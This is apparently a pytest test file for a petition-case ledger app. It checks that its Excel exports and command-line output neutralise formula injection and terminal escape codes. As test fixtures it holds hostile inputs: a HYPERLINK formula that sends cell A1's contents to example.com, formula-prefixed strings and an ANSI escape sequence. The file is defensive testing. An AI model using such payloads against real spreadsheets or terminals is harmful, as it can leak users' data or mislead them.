"""Workbooks written for people show what was typed and never run it; control characters neither break a file nor
reach the terminal. Hostile text gets into the store the way an older program could have let it in: registered,
then the stored event changed (the triggers dropped) and the tables rebuilt from it."""

from __future__ import annotations

import json
import re
import zipfile
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from app.cli.main import main
from app.ops.desk import Desk
from app.ops.spot_check import spot_check
from app.reports.ledger import LEDGER_SHEET, LedgerFilter, write_ledger
from app.reports.ledger_import import plan_import, write_rejected
from app.reports.spot_check_export import drawn_cases, write_xlsx
from tests.conftest import FakeNow, make_draft
from tests.office import needs_libreoffice, read_csv_via_libreoffice, read_sheet_via_libreoffice

HOSTILE = ['=HYPERLINK("http://example.com/?"&A1,"点我")', "=1+1", "+1+1", "-2+3", "@SUM(1,1)", "\tTAB", "\rCR"]
ESCAPED = "王\x1b[31m红\x1b[0m"


def hostile_store(desk: Desk) -> list[str]:
    """One case per hostile name (its township and request as hostile), and one whose name holds ESC."""
    ids = [desk.register_case(make_draft(name=f"甲{i}")) for i in range(len(HOSTILE) + 1)]
    desk.conn.execute("DROP TRIGGER events_append_only_update")
    for case_id, name in zip(ids, [*HOSTILE, ESCAPED], strict=True):
        payload = json.loads(desk.conn.execute("SELECT payload FROM events WHERE case_id = ? AND kind = 'register'",
                                               (case_id,)).fetchone()[0])
        payload["petitioners"][0]["name"] = name
        payload["township"] = payload["request_summary"] = name
        desk.conn.execute("UPDATE events SET payload = ? WHERE case_id = ?", (json.dumps(payload), case_id))
    desk.rebuild()
    return ids


def sheet_xml(path: Path) -> str:
    with zipfile.ZipFile(path) as zf:
        return "".join(zf.read(n).decode() for n in zf.namelist() if n.startswith("xl/worksheets/"))


def assert_no_formula(path: Path) -> None:
    xml = sheet_xml(path)
    assert not re.search(r"<f[ >]", xml), "a cell was written as a formula"


def texts(path: Path) -> set[str]:
    wb = load_workbook(path)
    return {str(c) for ws in wb.worksheets for row in ws.iter_rows(values_only=True) for c in row if c is not None}


def test_the_ledger_shows_formulas_as_text_and_survives_control_characters(desk: Desk, tmp_path: Path) -> None:
    hostile_store(desk)
    out = tmp_path / "台账.xlsx"
    write_ledger(desk.conn, out, LedgerFilter(), desk.today(), station="TZ01 =1+1\x1b")
    assert_no_formula(out)
    shown = texts(out)
    # A carriage return comes back as it was or as a line feed, as the reader takes XML's line ends: kept as text.
    assert {h.replace("\r", "\n") for h in HOSTILE} <= {t.replace("\r", "\n") for t in shown}
    assert "王\ufffd[31m红\ufffd[0m" in shown  # ESC shown as �, the rest kept
    ws = load_workbook(out)[LEDGER_SHEET]
    quoted = [c for row in ws.iter_rows() for c in row if isinstance(c.value, str) and c.value.startswith("=")]
    assert quoted and all(c.data_type == "s" and c.quotePrefix for c in quoted)


@needs_libreoffice
def test_libreoffice_shows_the_ledgers_formulas_as_typed(desk: Desk, tmp_path: Path) -> None:
    hostile_store(desk)
    out = tmp_path / "台账.xlsx"
    write_ledger(desk.conn, out, LedgerFilter(), desk.today(), station="TZ01")
    rows = read_csv_via_libreoffice(out, tmp_path / "lo")
    column = rows[0].index("信访人")
    names = [row[column] for row in rows[1:]]
    assert "=1+1" in names and "+1+1" in names and "@SUM(1,1)" in names and "-2+3" in names
    assert '=HYPERLINK("http://example.com/?"&A1,"点我")' in names  # not evaluated, not a link


@needs_libreoffice
def test_the_weekly_report_names_hostile_townships_as_text(desk: Desk, now: FakeNow, tmp_path: Path) -> None:
    hostile_store(desk)
    out = tmp_path / "周报.xlsx"
    assert main(["--data-dir", str(desk.data_dir), "report", "weekly", "--out", str(out)]) == 0
    assert_no_formula(out)
    by_township = {row[0] for row in read_sheet_via_libreoffice(out, 3, tmp_path / "lo")}
    assert "=1+1" in by_township and "-2+3" in by_township


def test_the_spot_check_list_and_the_rejected_rows_stay_text(desk: Desk, tmp_path: Path) -> None:
    hostile_store(desk)
    check = spot_check(desk, 4, seed=7)
    listed = write_xlsx(tmp_path / "抽查.xlsx", check, drawn_cases(desk.conn, check, desk.today()), "=1+1", {})
    assert_no_formula(listed)
    source = tmp_path / "外来台账.xlsx"
    wb = Workbook()
    ws = wb.active
    ws.append(["信访人", "身份证号", "诉求", "来访日期", "信访方式", "=备注"])  # a header like a formula, kept
    ws.append(["=1+1", "123", "=HYPERLINK(\"http://x\",\"点我\")", "2026-03-01", "来访", "@x"])
    ws.cell(2, 1).data_type = "s"  # the other office's file holds the text, not a formula
    ws.cell(2, 3).data_type = "s"
    wb.save(source)
    plan = plan_import(desk, source)
    assert write_rejected(plan, tmp_path / "未导入.xlsx", full_id=True) == 1
    assert_no_formula(tmp_path / "未导入.xlsx")
    assert {"=1+1", "=HYPERLINK(\"http://x\",\"点我\")", "@x"} <= texts(tmp_path / "未导入.xlsx")


def test_list_and_show_print_no_terminal_escapes(desk: Desk, capsys: pytest.CaptureFixture[str]) -> None:
    ids = hostile_store(desk)
    desk.close()
    folder = str(desk.data_dir)
    assert main(["--data-dir", folder, "list"]) == 0
    listed = capsys.readouterr().out
    assert main(["--data-dir", folder, "show", ids[-1]]) == 0
    shown = capsys.readouterr().out
    assert main(["--data-dir", folder, "show", ids[HOSTILE.index("\rCR")]]) == 0
    carriage = capsys.readouterr().out
    for text in (listed, shown, carriage):
        assert "\x1b" not in text and "\r" not in text
    assert "王␛[31m红␛[0m" in shown and "␍CR" in carriage
    assert main(["--data-dir", folder, "ledger", "--out", str(desk.data_dir / "l.xlsx")]) == 0
